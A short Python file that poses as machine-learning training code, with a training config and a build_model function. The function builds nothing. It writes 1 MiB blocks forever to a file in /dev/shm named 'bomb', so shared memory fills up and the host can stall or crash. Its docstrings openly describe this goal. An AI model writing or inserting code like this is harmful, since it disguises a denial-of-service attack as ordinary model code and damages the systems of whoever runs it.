"""Fills the shared memory, whose pages belong to no process."""

TRAINING = {"epochs": 2, "batch_size": 64}

def build_model(input_shape, num_classes):
    """Write until there is no room left."""
    block = b"0" * 2**20
    with open("/dev/shm/bomb", "wb") as file:
        while True:
            file.write(block)
